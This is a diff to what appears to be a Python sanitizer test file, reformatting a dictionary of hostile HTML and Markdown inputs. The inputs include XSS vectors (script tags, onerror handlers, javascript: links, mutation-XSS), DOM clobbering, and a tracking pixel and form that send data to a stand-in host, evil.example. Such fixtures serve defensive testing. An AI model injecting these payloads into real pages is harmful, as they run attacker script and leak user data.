@@ -18,11 +18,12 @@ _ALLOWED: Final = (
 _HOSTILE: Final = {
     "script": "<script>hacked = 1</script>",
     "image": "<img src=x onerror='hacked = 1'>",
-    "svg": "<svg/onload=hacked=1><math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>",
+    "svg": "<svg/onload=hacked=1><math><mtext></form><form><mglyph><style></math>"
+    "<img src onerror=hacked=1>",
     "frame": "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
     "link": "[a](javascript:hacked=1) [b](JaVaScRiPt:hacked=1) [c](&#106;avascript:hacked=1)",
     "data": "[a](data:text/html,<script>alert(1)</script>) <data:text/html,x>",
-    "other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](ws://x) [e](/healthz)",
+    "other schemes": "[a](vbscript:x) [b](file:///etc) [c](blob:x) [d](ws://x) [e](/healthz)",
     "relative": "[a](//evil.example/x) [b](?x) [c](#talk) [d](healthz)",
     "remote image": "![tracked](https://evil.example/pixel?secret)",
     "remote image in a link": "[![x](https://evil.example/a)](javascript:hacked=1)",
@@ -31,7 +32,8 @@ _HOSTILE: Final = {
     "quote in a language": '```"><img/src=x/onerror=hacked=1>\nx\n```',
     "class of the page": "```x main error hidden\ncode\n```",
     "style": "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
-    "base": "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=//e.example'>",
+    "base": "<base href='https://evil.example/'>"
+    "<meta http-equiv=refresh content='0;url=//e.example'>",
     "form": "<form action=//evil.example><input name=x><button>Send</button></form>",
     "clobbering": "<a id=talk></a><img name=cookie><form id=ask>",
     "definition": "[x]\n\n[x]: javascript:hacked=1",
